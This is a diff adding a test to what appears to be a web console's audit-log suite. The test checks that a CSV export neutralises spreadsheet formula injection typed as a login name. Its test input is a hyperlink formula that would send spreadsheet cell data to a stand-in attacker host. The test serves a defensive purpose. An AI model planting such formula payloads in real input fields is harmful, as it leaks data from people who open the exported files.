@@ -93,3 +93,19 @@ def test_audit_filters_and_export(console_login, sessions):
         "/console/audit?since=2000-01-01&until=2099-12-31"
     )
     assert manager_page.status_code == 200
+
+
+def test_an_export_never_carries_a_live_formula(console_app, console_login):
+    """A stranger's failed login is audited with the name they typed: in the audit export a
+    spreadsheet must show it as text, never run it."""
+    typed = '=hyperlink("http://evil.example/?"&a1;"x")'
+    refused = log_in(console_app.test_client(), typed, "JBSWY3DPEHPK3PXPJBSWY3DP", password="x")
+    assert refused.status_code == 401
+    export = console_login(Role.COORDINATOR).get("/console/audit.csv?action=login")
+    rows = list(
+        csv.reader(io.StringIO(export.get_data(as_text=True).lstrip("\ufeff")), delimiter=";")
+    )
+    actors = [row[1] for row in rows[1:]]
+    assert "'" + typed in actors
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
